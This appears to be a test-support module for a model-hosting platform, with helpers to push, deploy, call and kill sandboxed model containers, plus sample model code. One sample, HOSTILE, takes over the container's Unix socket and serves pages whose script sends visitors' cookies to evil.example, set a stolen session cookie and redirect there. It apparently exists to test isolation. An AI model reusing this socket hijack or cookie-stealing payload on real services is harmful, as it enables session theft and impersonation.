"""Small models without requirements, pushed and deployed on a real server in a second or two."""

import io
import json
import os
import signal
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx

from faults.remains import ancestors, lives, processes
from modelyard_client import Client
from support.server import Server
from support.waiting import until

BEHAVIOURS = '''
"""Does what it is told."""
import sys
import time


def call(what: str = "echo", text: str = "", number: float = 0) -> str:
    if what == "raise":
        secret = "only for the owner"
        raise ValueError("refused: " + text)
    if what == "sleep":
        time.sleep(number)
    if what == "big":
        return "x" * int(number)
    if what == "log":
        for index in range(int(number)):
            print("line", index, "y" * 100)
    return VERSION + text
'''
STREAM = '''
import time
from collections.abc import Iterator


def call(count: int = 3, pause: float = 0.0) -> Iterator[str]:
    """Counts."""
    for number in range(count):
        yield f"item {number}"
        time.sleep(pause)
'''
HOSTILE = '''
"""Takes the box's place on its socket and answers as it likes, once it is told to."""
import os
import socket
import threading
import time

PAGE = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>"
SOCKET = "/run/modelyard/box.sock"


def call(what: str = "") -> str:
    if what == "hold":
        time.sleep(3)
    elif what:
        os.unlink(SOCKET)
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(SOCKET)
        os.chmod(SOCKET, 0o666)
        listener.listen(20)
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
    return PAGE.decode()


def serve(listener):
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=answer, args=(connection,), daemon=True).start()


def answer(connection):
    seen = b""
    while b"\\r\\n\\r\\n" not in seen:
        seen += connection.recv(65536)
    body = PAGE + b"<pre>" + seen + b"</pre>"
    connection.sendall(
        b"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\nSet-Cookie: modelyard_session=stolen; Path=/\\r\\n"
        b"Content-Security-Policy: default-src *\\r\\nLocation: https://evil.example/\\r\\n"
        b"Refresh: 0; url=https://evil.example/\\r\\nAccess-Control-Allow-Origin: *\\r\\n"
        b"Clear-Site-Data: \\"*\\"\\r\\nService-Worker-Allowed: /\\r\\nLink: </x>; rel=preload\\r\\n"
        b"Connection: close\\r\\nContent-Length: %d\\r\\n\\r\\n%b" % (len(body), body)
    )
    connection.close()
'''
DYING = """
import os


def call(text: str = "") -> str:
    return text


if os.environ.get("MODELYARD_SOCKET"):  # it passes its check and then never starts to serve
    print("this model will not start today", flush=True)
    os._exit(3)
"""


@dataclass(frozen=True)
class Yard:
    """A server and an account on it that owns models."""

    server: Server
    owner: str
    token: str

    def address(self, name: str) -> str:
        return f"{self.owner}/{name}"

    def push(self, name: str, code: str = BEHAVIOURS, *, visibility: str = "private") -> int:
        """Pushes a version and waits until it is ready; ``VERSION`` in the code becomes ``v1:`` and so on."""
        address = self.address(name)
        with Client(self.server.url, token=self.token) as client:
            if client.find_repository(address) is None:
                client.create_repository(address, visibility=visibility)
            number = len(client.list_versions(address)) + 1
            with tempfile.NamedTemporaryFile(suffix=".zip") as file:
                file.write(_archive(code.replace("VERSION", f'"v{number}:"')))
                file.flush()
                version = client.push_archive(address, Path(file.name))
            ended = next(e.data for e in client.follow_build(address, version["number"]) if e.name == "end")
            assert ended["state"] == "ready", ended
        return number

    def deploy(self, name: str, **settings: Any) -> dict[str, Any]:
        return self.api("PUT", name, "deployment", json=settings).json()

    def serve(self, name: str, code: str = BEHAVIOURS, *, visibility: str = "private", **settings: Any) -> str:
        """Pushes, deploys, and returns the address below ``/serve``."""
        self.push(name, code, visibility=visibility)
        self.deploy(name, **settings)
        return f"/serve/{self.address(name)}"

    def api(self, method: str, name: str, path: str, **options: Any) -> httpx.Response:
        """A request of the owner below the repository."""
        with self.server.client(self.token) as client:
            response = client.request(method, f"/api/v1/repos/{self.address(name)}/{path}", **options)
        assert response.is_success, response.text
        return response

    def change(self, name: str, **values: Any) -> None:
        with self.server.client(self.token) as client:
            client.patch(f"/api/v1/repos/{self.address(name)}", json=values).raise_for_status()

    def deployment(self, name: str) -> dict[str, Any]:
        return self.api("GET", name, "deployment").json()

    def running(self, name: str, state: str = "ready") -> list[dict[str, Any]]:
        return [replica for replica in self.deployment(name)["running"] if replica["state"] == state]

    def wait_running(self, name: str, count: int, *, seconds: float = 60) -> list[dict[str, Any]]:
        until(lambda: len(self.running(name)) == count, seconds=seconds, what=f"{count} replicas of {name}")
        return self.running(name)

    @contextmanager
    def calling(self, token: str | None = None) -> Iterator[httpx.Client]:
        with self.server.client(self.token if token is None else token) as client:
            yield client

    def call(self, url: str, **inputs: Any) -> httpx.Response:
        with self.calling() as client:
            return client.post(f"{url}/model/predict", json=inputs)


def yard_on(server: Server) -> Yard:
    username, _, token = server.account()
    return Yard(server, username, token)


def boxes(server: Server, replica_id: str = "") -> list[Path]:
    """The folders of the containers that answer, as engine ``local`` keeps them; or that of one replica."""
    return sorted((server.folder / "d" / "engine" / "c").glob(f"box-{replica_id.replace('-', '')}*"))


def kill_box(server: Server, replica_id: str) -> None:
    """Kills a box's supervisor, and so the box, as a machine short of memory would; waits until all of it is dead.

    (A call that a dying box has taken is answered 502: nobody knows whether it was carried out.)
    """
    (folder,) = boxes(server, replica_id)
    supervisor = json.loads((folder / "state.json").read_text())["supervisor"]
    box = [pid for pid in processes() if supervisor in ancestors(pid)]
    os.kill(supervisor, signal.SIGKILL)
    until(lambda: not any(lives(pid) for pid in box), what="the box is dead")


def _archive(code: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        target.writestr("modelyard.yaml", 'predict: "told:call"\ntitle: Told\n')
        target.writestr("told.py", code)
    return made.getvalue()
